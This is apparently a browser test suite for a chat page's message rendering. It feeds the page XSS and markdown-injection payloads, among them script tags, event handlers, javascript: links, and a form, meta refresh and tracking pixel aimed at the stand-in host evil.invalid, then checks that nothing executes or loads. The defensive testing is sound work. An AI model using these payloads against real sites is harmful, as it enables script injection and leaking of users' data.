import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatEvent } from '../../../sse/sse.ts';
import { delta, startStream } from '../../fakes/scenarios.ts';
import { type BackendScenario, type FakeBackend, startFakeBackend } from '../../fakes/start-fake-backend.ts';
import { openPage, type RecordedPage } from '../../harness/recorded-page.ts';
import { startTestGateway, type TestGateway } from '../../harness/start-gateway.ts';
import { waitFor } from '../../harness/wait-for.ts';
import { chromium } from '../../services/service-catalogue.ts';
import { startBrowser, type TestBrowser } from '../../services/start-browser.ts';
import { requireTestService } from '../../services/test-service.ts';

const hostile = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1"></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<style>body { display: none }</style><link rel=stylesheet href=http://evil.invalid/x.css>',
  '<form action=http://evil.invalid><input name=key></form>',
  '<base href=http://evil.invalid/><meta http-equiv=refresh content="0;url=http://evil.invalid">',
  '[click](javascript:window.hacked=1) [click](JaVaScRiPt:window.hacked=1) [click](&#106;avascript:window.hacked=1)',
  '[click](data:text/html,<script>window.hacked=1</script>) [click](vbscript:x) <javascript:window.hacked=1>',
  '![tracker](http://evil.invalid/pixel.png?q=secret) ![x](javascript:window.hacked=1)',
  '[a][r]\n\n[r]: javascript:window.hacked=1',
  '```"><img src=x onerror=window.hacked=1>\n</code></pre><script>window.hacked = 1</script>\n```',
  '`</code><script>window.hacked = 1</script>`',
  '| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [x](javascript:window.hacked=1) | <b onclick=window.hacked=1>b</b> |',
  '# <a href="javascript:window.hacked=1">x</a>\n\n> <script>window.hacked = 1</script>\n\n- <img src=x onerror=window.hacked=1>',
  '<a id="messages"></a><div id="prompt"></div><a name="body"></a>',
  '"><textarea><!-- <![CDATA[ --!> <noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
].join('\n\n');

/** The elements that messages may contain, and all their attributes. */
const listElements = `[...document.querySelectorAll('#messages *')].map((one) =>
  [one.localName, ...one.getAttributeNames().filter((name) => !['class', 'title'].includes(name))].join(' '))`;
const allowedElements =
  /^(?:article|h[2-6]|p|div|span|em|strong|del|br|hr|ul|ol|li|blockquote|code|table|thead|tbody|tr|th|td|figure|figcaption|footer|pre tabindex|div tabindex|details|details open|details hidden|summary|div hidden|p hidden|a href target rel|button type|button type aria-label|button type hidden)$/;

const texts: Readonly<Record<string, string>> = {
  hostile,
  quotes: `${'>'.repeat(20_000)} deep`,
  lists: Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  emphasis: '*_'.repeat(20_000),
  brackets: '['.repeat(90_000),
  backticks: Array.from({ length: 400 }, (_, n) => '`'.repeat(n)).join(' '),
  huge: 'word '.repeat(100_000),
};

const scenario: BackendScenario = ({ body }, response) => {
  const { messages } = JSON.parse(body) as { messages: { content: string }[] };
  const name = messages.at(-1)?.content ?? '';
  const stream = startStream(response);
  if (name === 'thinking') {
    stream.write(formatEvent({ choices: [{ delta: { reasoning_content: `Hm. ${hostile}` } }] }));
    stream.write(delta('The **answer**.'));
  } else if (name === 'broken') {
    stream.write(delta('Half an '));
    stream.write(formatEvent({ error: { message: '<b>no</b>', type: 'server_error', code: 500 } }));
    return void stream.end();
  } else for (const part of (texts[name] ?? name).match(/.{1,5000}/gs) ?? []) stream.write(delta(part));
  stream.write(formatEvent({ choices: [{ delta: {}, finish_reason: 'stop' }] }));
  stream.end('data: [DONE]\n\n');
};

const peer = await requireTestService(chromium);

describe.skipIf(peer === undefined)('the chat page', () => {
  let chrome: TestBrowser;
  let fake: FakeBackend;
  let corral: TestGateway;
  beforeAll(async () => {
    if (peer) chrome = await startBrowser(peer);
    fake = await startFakeBackend(scenario);
    corral = await startTestGateway({
      backend: fake.backend,
      env: { AUTH_ENABLED: 'false', MAX_REPLAYS: '0' },
    });
  });
  afterAll(async () => {
    await corral.stop();
    await fake.stop();
    await chrome[Symbol.asyncDispose]();
  });

  async function asking(text: string): Promise<RecordedPage> {
    const watched = await openPage(chrome.browser);
    await watched.page.goto(`${corral.origin}/chat`);
    await watched.page.getByRole('heading', { name: 'Chat with fake-model' }).waitFor();
    await send(watched, text);
    return watched;
  }

  /** Resolves when the response has ended. */
  async function send({ page }: RecordedPage, text: string): Promise<void> {
    const messages = await page.locator('.message').count();
    await page.getByLabel('Message').fill(text);
    await page.getByLabel('Message').press('Enter');
    await page
      .locator('.message:not(.open)')
      .nth(messages + 1)
      .waitFor();
  }

  it('shows hostile text as text, and loads nothing from elsewhere', async () => {
    await using watched = await asking('hostile');
    const { page } = watched;
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    expect(await page.locator('.assistant').innerText()).toContain('<script>window.hacked = 1</script>');
    for (const found of await page.evaluate<string[]>(listElements)) expect(found).toMatch(allowedElements);
    const links = await page.evaluate<string[]>(
      '[...document.querySelectorAll("#messages a")].map((a) => a.href)',
    );
    expect(links).toEqual(['http://evil.invalid/pixel.png?q=secret']);
    await page.reload();
    await page.getByText('The conversation stays').waitFor({ state: 'hidden' });
    expect(await page.evaluate('window.hacked')).toBe(undefined);
    expect(requested.filter((url) => !url.startsWith(corral.origin))).toEqual([]);
    expect(watched.complaints).toEqual([]);
  });

  it.each(Object.keys(texts).slice(1))('survives %s', async (name) => {
    await using watched = await asking(name);
    await send(watched, 'And **now**?');
    await watched.page.locator('.assistant strong', { hasText: 'now' }).waitFor();
    expect(watched.complaints).toEqual([]);
  });

  it('folds the reasoning', async () => {
    await using watched = await asking('thinking');
    const { page } = watched;
    await page.locator('.assistant strong', { hasText: 'answer' }).waitFor();
    expect(await page.getByText('Hm.').isVisible()).toBe(false);
    await page.getByText(/^Thought for/).click();
    await page.getByText('Hm.').waitFor();
    for (const found of await page.evaluate<string[]>(listElements)) expect(found).toMatch(allowedElements);
    expect(watched.complaints).toEqual([]);
  });

  it('keeps what came before an error, and continues the conversation', async () => {
    await using watched = await asking('broken');
    const { page } = watched;
    await page.getByText('Half an').waitFor();
    expect(await page.locator('.message-problem').innerText()).toMatch(/<b>no<\/b>/);
    await page.getByRole('button', { name: 'Settings' }).click();
    await page.getByLabel('System prompt').fill('Be brief.');
    await page.getByLabel('Temperature').fill('0.2');
    await page.getByLabel('Maximum tokens').fill('50');
    await page.getByRole('button', { name: 'Save' }).click();
    await send(watched, 'go on');
    await waitFor('both requests', () => fake.received.length >= 2);
    expect(JSON.parse(fake.received.at(-1)?.body ?? '')).toMatchObject({
      temperature: 0.2,
      max_tokens: 50,
      messages: [
        { role: 'system', content: 'Be brief.' },
        { role: 'user', content: 'broken' },
        { role: 'assistant', content: 'Half an ' },
        { role: 'user', content: 'go on' },
      ],
    });
  });
});
